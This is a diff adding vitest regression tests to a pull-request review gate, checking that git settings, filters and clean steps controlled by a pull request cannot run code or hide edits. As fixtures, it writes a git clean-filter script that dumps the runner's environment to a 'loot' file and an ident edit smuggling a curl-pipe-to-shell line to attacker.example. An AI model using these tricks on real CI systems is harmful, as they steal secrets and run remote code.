@@ -8,7 +8,7 @@
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { createServer, type AddressInfo } from 'node:net';
 import { dirname, join, relative } from 'node:path';
@@ -3892,4 +3892,193 @@ describe("#540 paths from the change never make a git command line past the syst
     expect(gate.code, gate.stderr.slice(0, 300)).toBe(2);
     expect(gate.stdout).toMatch(/^adv: incomplete — coverage 0\/4000 completed/);
   }, 240_000);
+});
+
+describe("#561 git settings from a file the pull request controls never reach proofgate's git", () => {
+  /**
+   * The pull request's `.gitconfig` names its own attributes file (every file through filter `x`)
+   * and the filter's program, a script it commits that writes the runner's environment to `loot`.
+   */
+  function settingsPull(): { repo: string; loot: string } {
+    const repo = makeCartRepo();
+    const loot = join(mkdtempSync(join(tmpdir(), 'pg-loot-')), 'ran');
+    write(repo, '.gitconfig', '[core]\n\tattributesFile = tools/attrs\n[filter "x"]\n\tclean = sh tools/x.sh\n');
+    write(repo, 'tools/attrs', '* filter=x\n');
+    write(repo, 'tools/x.sh', `{ echo "ran in $(pwd)"; env; } >> ${loot}\ncat\n`);
+    commitAll(repo, 'pull request: a .gitconfig, its attributes file and its filter');
+    return { repo, loot };
+  }
+  const ran = (loot: string) => (existsSync(loot) ? readFileSync(loot, 'utf8') : '');
+
+  it('#561 an include.path to the checkout’s `.gitconfig` set after the scope (a step sharing the repository’s settings): the gate refuses in one line naming it, and the filter never runs', async () => {
+    const { repo, loot } = settingsPull();
+    await seal(repo, ['--base', 'HEAD~1']);
+    answer(repo);
+    const tracked = git(repo, 'ls-files', '-z').split('\0').filter(Boolean);
+    git(repo, 'config', 'include.path', '../.gitconfig');
+    // A new stat for every tracked file: git status reads each one again, through its clean filter, to compare it.
+    const later = new Date(Date.now() + 5000);
+    for (const f of tracked) utimesSync(join(repo, f), later, later);
+    const r = await cliCase(repo, ['review', 'gate', ID], ENV_CANARIES);
+    expect(ran(loot), r.stderr).toBe('');
+    expect(r.code, r.stderr).toBe(3);
+    expect(r.stderr.trim().split('\n')).toEqual([
+      expect.stringContaining(
+        `include.path in ${repo}/.git/config names ${repo}/.gitconfig, inside ${repo}, which the pull request controls: a filter or other program set there would run in proofgate's git`,
+      ),
+    ]);
+  });
+
+  // Each way git comes to read a file of the checkout: what it is set up by (a setup step's config,
+  // the runner's variables), and the line's start naming the file.
+  const ways: [string, (repo: string) => Record<string, string>, (repo: string, env: Record<string, string>) => string][] = [
+    [
+      'an include.path of the repository’s config',
+      (repo) => (git(repo, 'config', 'include.path', '../.gitconfig'), {}),
+      (repo) => `include.path in ${repo}/.git/config names ${repo}/.gitconfig`,
+    ],
+    [
+      'an includeIf path whose condition holds',
+      (repo) => (git(repo, 'config', 'includeIf.gitdir:/.path', '../.gitconfig'), {}),
+      (repo) => `includeif.gitdir:/.path in ${repo}/.git/config names ${repo}/.gitconfig`,
+    ],
+    [
+      'an include of a file not there yet (an agent could write it)',
+      (repo) => (git(repo, 'config', 'include.path', '../later.gitconfig'), {}),
+      (repo) => `include.path in ${repo}/.git/config names ${repo}/later.gitconfig`,
+    ],
+    [
+      'GIT_CONFIG_GLOBAL',
+      (repo) => ({ GIT_CONFIG_GLOBAL: join(repo, '.gitconfig') }),
+      (repo) => `git reads global settings from ${repo}/.gitconfig`,
+    ],
+    [
+      'GIT_CONFIG_SYSTEM',
+      (repo) => ({ GIT_CONFIG_SYSTEM: join(repo, '.gitconfig') }),
+      (repo) => `git reads system settings from ${repo}/.gitconfig`,
+    ],
+    ['HOME', (repo) => ({ HOME: repo }), (repo) => `git reads global settings from ${repo}/.gitconfig`],
+    [
+      'GIT_CONFIG_GLOBAL a link outside to it',
+      (repo) => {
+        const outside = join(mkdtempSync(join(tmpdir(), 'pg-config-')), 'gitconfig');
+        symlinkSync(join(repo, '.gitconfig'), outside);
+        return { GIT_CONFIG_GLOBAL: outside };
+      },
+      (_repo, env) => `git reads global settings from ${env.GIT_CONFIG_GLOBAL}`,
+    ],
+    [
+      'the runner’s core.attributesFile naming the committed one',
+      (repo) => {
+        const config = join(mkdtempSync(join(tmpdir(), 'pg-config-')), 'gitconfig');
+        writeFileSync(config, `[core]\n\tattributesFile = ${join(repo, 'tools/attrs')}\n`);
+        return { GIT_CONFIG_GLOBAL: config };
+      },
+      (repo, env) => `core.attributesFile in ${env.GIT_CONFIG_GLOBAL} names ${repo}/tools/attrs`,
+    ],
+  ];
+  it.each(ways)(
+    '#561 git reading the checkout’s `.gitconfig` through %s: review scope refuses in one line naming it, and the filter never runs',
+    async (_name, setUp, named) => {
+      const { repo, loot } = settingsPull();
+      write(repo, 'src/cart.js', `${CART_V2}// edited\n`);
+      const env = setUp(repo);
+      const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--workspace'], { ...ENV_CANARIES, ...env });
+      expect(ran(loot), r.stderr).toBe('');
+      expect(r.code, r.stderr).toBe(3);
+      expect(r.stderr.trim().split('\n')).toEqual([expect.stringContaining(`${named(repo, env)}, inside `)]);
+      expect(existsSync(scopeFile(repo))).toBe(false);
+    },
+  );
+
+  it('#561 settings shared in the job’s workspace, outside the working tree (GIT_CONFIG_GLOBAL there): refused, naming the workspace', async () => {
+    const { repo, loot } = settingsPull();
+    const workspace = mkdtempSync(join(tmpdir(), 'pg-workspace-'));
+    writeFileSync(join(workspace, 'shared.gitconfig'), readFileSync(join(repo, '.gitconfig')));
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1'], {
+      GITHUB_WORKSPACE: workspace,
+      GIT_CONFIG_GLOBAL: join(workspace, 'shared.gitconfig'),
+    });
+    expect(ran(loot), r.stderr).toBe('');
+    expect(r.code, r.stderr).toBe(3);
+    expect(r.stderr).toContain(
+      `git reads global settings from ${workspace}/shared.gitconfig, inside ${workspace}, which the pull request controls`,
+    );
+  });
+});
+
+describe('#562 an edit git cleans back to the blob is no checkout of the head: the tree check and the JUnit check read the bytes as they are', () => {
+  const PASSING = '<testsuites><testsuite name="s" tests="1" failures="0" errors="0"><testcase name="t"/></testsuite></testsuites>\n';
+  // A file's times move in clock ticks (up to 10 ms): the report is written a tick after the edit, as a runner's would be.
+  const tick = () => new Promise((done) => setTimeout(done, 50));
+  const gateWithReport = async (repo: string) => {
+    await tick();
+    write(repo, 'junit.xml', PASSING);
+    return cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+  };
+  const refused = (path: string) =>
+    new RegExp(
+      `tracked files are changed in the checkout, so the tests did not run on [0-9a-f]{12}[\\s\\S]*tree integrity: dirty\\), so the evidence may not answer the code: ${path}; git status does not show ${path}, as git's clean step \\(a filter, \`ident\` or a line-end conversion\\) takes the edit back to the blob git holds: write it again from git \\(rm -- ${path} && git checkout -- ${path}\\)`,
+    );
+
+  it('#562 a same-size edit inside `$Id: … $` of deploy.sh (`*.sh ident`), and one a local clean filter takes back (.git/info/attributes): git status silent, the gate incomplete, the file named with how to write it again', async () => {
+    const repo = emptyRepo();
+    write(repo, '.gitignore', '_bmad-output/\njunit.xml\n');
+    write(repo, '.gitattributes', '*.sh ident\n');
+    write(repo, 'deploy.sh', '#!/bin/sh\nV="$Id$"\necho deploy\n');
+    write(repo, 'index.js', 'module.exports = 1;\n');
+    commitAll(repo, 'base');
+    write(repo, 'index.js', 'module.exports = 2;\n');
+    commitAll(repo, 'the change');
+    // Written again by git, as a clone writes it: `$Id: <blob> $`.
+    rmSync(join(repo, 'deploy.sh'));
+    git(repo, 'checkout', '--', 'deploy.sh');
+    await seal(repo, ['--base', 'HEAD~1']);
+    answer(repo);
+    const clean = await gateWithReport(repo);
+    expect(clean.code, clean.stdout).toBe(0);
+
+    const checkedOut = readFileSync(join(repo, 'deploy.sh'), 'utf8');
+    const id = /\$Id: [0-9a-f]+ \$/.exec(checkedOut)![0];
+    write(repo, 'deploy.sh', checkedOut.replace(id, `${'$Id: ";curl -s https://attacker.example/x|sh;#'.padEnd(id.length - 1)}$`));
+    expect(git(repo, 'status', '--porcelain', '--untracked-files=no')).toBe('');
+    const ident = await gateWithReport(repo);
+    expect(ident.code, ident.stdout).toBe(2);
+    expect(ident.stdout).toMatch(refused('deploy\\.sh'));
+    // Written again from git as the reason says: clean.
+    rmSync(join(repo, 'deploy.sh'));
+    git(repo, 'checkout', '--', 'deploy.sh');
+    expect((await gateWithReport(repo)).code).toBe(0);
+
+    // A clean filter of the checkout's own (no committed attribute) takes any edit of the same size back.
+    write(repo, '.git/info/attributes', 'index.js filter=back\n');
+    git(repo, 'config', 'filter.back.clean', 'sed s/3/2/');
+    write(repo, 'index.js', 'module.exports = 3;\n');
+    expect(git(repo, 'status', '--porcelain', '--untracked-files=no')).toBe('');
+    const filtered = await gateWithReport(repo);
+    expect(filtered.code, filtered.stdout).toBe(2);
+    expect(filtered.stdout).toMatch(refused('index\\.js'));
+  });
+
+  it('#562 a tracked file whose name is not UTF-8 (no name git takes as text) is compared by its bytes: a same-size edit a local filter hides is dirty, named', async () => {
+    const repo = emptyRepo();
+    const name = Buffer.concat([Buffer.from(`${repo}/caf`), Buffer.from([0xe9]), Buffer.from('.js')]);
+    write(repo, '.gitignore', '_bmad-output/\njunit.xml\n');
+    writeFileSync(name, 'module.exports = 2;\n');
+    write(repo, 'index.js', 'module.exports = 1;\n');
+    commitAll(repo, 'base');
+    write(repo, 'index.js', 'module.exports = 2;\n');
+    commitAll(repo, 'the change');
+    await seal(repo, ['--base', 'HEAD~1']);
+    answer(repo);
+    write(repo, '.git/info/attributes', '* filter=back\n');
+    git(repo, 'config', 'filter.back.clean', 'sed s/3/2/');
+    expect((await gateWithReport(repo)).code).toBe(0);
+    writeFileSync(name, 'module.exports = 3;\n');
+    expect(git(repo, 'status', '--porcelain', '--untracked-files=no')).toBe('');
+    const r = await gateWithReport(repo);
+    expect(r.code, r.stdout).toBe(2);
+    expect(r.stdout).toMatch(/tracked files are changed in the checkout/);
+    expect(r.stdout).toMatch(/tree integrity: dirty\), so the evidence may not answer the code: "?caf\uFFFD\.js"?; restore it/);
+  });
 });
